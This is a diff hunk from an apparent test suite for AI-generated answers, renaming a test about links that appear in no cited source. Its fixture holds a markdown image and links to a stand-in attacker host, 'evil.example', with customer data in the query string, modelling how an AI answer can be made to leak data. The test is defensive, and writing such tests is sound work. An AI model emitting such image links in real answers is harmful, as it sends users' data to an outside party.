@@ -188,7 +188,7 @@ describe('a provider that hangs', () => {
   })
 })
 
-describe('an answer with links that stand in no source', () => {
+describe('an answer with links that are in no source', () => {
   const LEAK = 'https://evil.example/p.png?d=92-customers'
   const text = `There are 92 customers.\n\n![chart](${LEAK}) See [more](//evil.example/x), <${LEAK}> or https://docs.example/a?b=1.`
 
